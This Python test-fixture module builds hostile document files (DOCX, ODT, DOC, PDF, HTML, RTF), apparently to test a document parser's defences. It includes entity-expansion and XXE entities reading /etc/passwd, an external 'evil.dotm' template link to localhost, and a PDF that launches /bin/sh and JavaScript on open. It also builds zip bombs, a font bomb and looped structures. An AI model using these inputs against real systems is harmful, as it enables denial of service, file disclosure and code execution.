# ruff: noqa: E501
"""Hostile documents in the formats of word processors, and web pages: each is made from a harmless one, none is stored."""

import io
import struct
import zipfile
from collections.abc import Mapping
from pathlib import Path

from . import hostile, office_files

FILES = Path(__file__).parent / "files"
ODT = 'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0"'
LAUGHS = '<!ENTITY a0 "lol">' + "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))
XXE = '<!ENTITY a9 SYSTEM "file:///etc/passwd">'


def sample(kind: str) -> bytes:
    return office_files.office_cv() if kind == "docx" else (FILES / f"lina-orvik.{kind}").read_bytes()


def packed(parts: Mapping[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


def repacked(kind: str, **changed: bytes) -> bytes:
    """A document of a kind with parts replaced or added; `__` stands for a slash, `_` for a dot."""
    names = {name.replace("__", "/").replace("_", "."): data for name, data in changed.items()}
    with zipfile.ZipFile(io.BytesIO(sample(kind))) as archive:
        return packed({name: archive.read(name) for name in archive.namelist()} | names)


def odt(body: str, doctype: str = "", styles: str = "") -> bytes:
    content = f"{doctype}<office:document-content {ODT}><office:automatic-styles>{styles}</office:automatic-styles><office:body><office:text>{body}</office:text></office:body></office:document-content>"
    return packed({"mimetype": b"application/vnd.oasis.opendocument.text", "content.xml": content.encode()})


def odt_with_password() -> bytes:
    manifest = b'<manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0"><manifest:file-entry manifest:full-path="content.xml"><manifest:encryption-data/></manifest:file-entry></manifest:manifest>'
    return repacked("odt", **{"META-INF__manifest_xml": manifest, "content_xml": b"\x8f\x02" * 500})


def many_entries() -> bytes:
    return packed({"word/document.xml": hostile.paragraphs("Ada"), **{f"word/{n}.bin": b"" for n in range(2_500)}})


def archives_in_archives() -> bytes:
    inner = packed({"a.bin": b"\0" * 3_000_000})
    for depth in range(4):
        inner = packed({f"{depth}-{n}.zip": inner for n in range(4)})
    return inner


def outside_template() -> bytes:
    """A DOCX whose template, picture and text are said to lie elsewhere."""
    relation = '<Relationship Id="x{0}" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{0}" Target="{1}" TargetMode="External"/>'
    relations = "".join(
        relation.format(kind, target)
        for kind, target in (
            ("attachedTemplate", "http://127.0.0.1:9/evil.dotm"),
            ("image", "file:///etc/passwd"),
            ("aFChunk", "\\\\127.0.0.1\\share\\x"),
        )
    )
    whole = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{relations}</Relationships>'
    return repacked("docx", word___rels__settings_xml_rels=whole.encode())


def word(changes: Mapping[int, bytes]) -> bytes:
    """The Word document with bytes of its main stream's head changed."""
    data = bytearray(sample("doc"))
    head = data.find(b"\xec\xa5")
    for at, value in changes.items():
        data[head + at : head + at + len(value)] = value
    return bytes(data)


def word_95() -> bytes:
    return word({2: struct.pack("<H", 104)})


def word_with_password() -> bytes:
    flags = struct.unpack_from("<H", sample("doc"), sample("doc").find(b"\xec\xa5") + 0x0A)[0]
    return word({0x0A: struct.pack("<H", flags | 0x0100)})


def word_without_end() -> bytes:
    return word({0x4C: struct.pack("<i", 0x7FFFFFFF)})


def looped_ole() -> bytes:
    """Every chain of sectors leads back to itself."""
    data = bytearray(sample("doc"))
    first = struct.unpack_from("<I", data, 76)[0]
    at = 512 * (first + 1)
    for index in range(128):
        if struct.unpack_from("<I", data, at + 4 * index)[0] < 0xFFFFFFFA:
            struct.pack_into("<I", data, at + 4 * index, index)
    return bytes(data)


def ole_directory_loop() -> bytes:
    """Entries of the directory that are their own siblings and children."""
    data = bytearray(sample("doc"))
    at = 512 * (struct.unpack_from("<I", data, 48)[0] + 1)
    for index in range(4):
        struct.pack_into("<III", data, at + 128 * index + 68, 0, 0, 0)
    return bytes(data)


def pdf_objects(*objects: bytes) -> bytes:
    out, offsets = bytearray(b"%PDF-1.7\n"), []
    for number, body in enumerate(objects, 1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    return bytes(out + b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))


def page_tree_loop() -> bytes:
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 2 >>",
        b"<< /Type /Pages /Parent 2 0 R /Kids [2 0 R 3 0 R] /Count 2 >>",
    )


def font_bomb() -> bytes:
    """A font file that unpacks to hundreds of megabytes."""
    import zlib

    font = zlib.compress(b"\0" * 300_000_000, 9)
    text = b"BT /F1 12 Tf 72 700 Td (Ada Example) Tj 0 -20 Td (ada@example.org, nurse since 2015) Tj ET"
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /TrueType /BaseFont /Bomb /FontDescriptor 6 0 R /Encoding /WinAnsiEncoding >>",
        b"<< /Type /FontDescriptor /FontName /Bomb /Flags 32 /FontFile2 7 0 R >>",
        b"<< /Length %d /Length1 300000000 /Filter /FlateDecode >>\nstream\n" % len(font) + font + b"\nendstream",
    )


def pdf_with_actions(text: bytes) -> bytes:
    """A PDF that wants to run scripts and programs when it is opened."""
    action = b"<< /S /Launch /F (/bin/sh) /Next << /S /JavaScript /JS (app.launchURL\\('http://127.0.0.1:9'\\)) >> >>"
    return pdf_objects(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction " + action + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /AA << /O " + action + b" >> /Resources << /Font << /F1 5 0 R >> >> >>",
        b"<< /Length %d >>\nstream\n" % len(text) + text + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    )  # fmt: skip


def lost_references(data: bytes) -> bytes:
    """A PDF whose table of places points nowhere."""
    at = data.rfind(b"startxref")
    return data[:at] + b"startxref\n99999999\n%%EOF"


def nested_html(depth: int) -> bytes:
    return b"<!DOCTYPE html><body>" + b"<div>" * depth + b"Ada Example" + b"</div>" * depth


def nested_tables_rtf(depth: int) -> bytes:
    return b"{\\rtf1 " + b"".join(b"\\itap%d text\\nestcell " % n for n in range(1, depth)) + b"}"
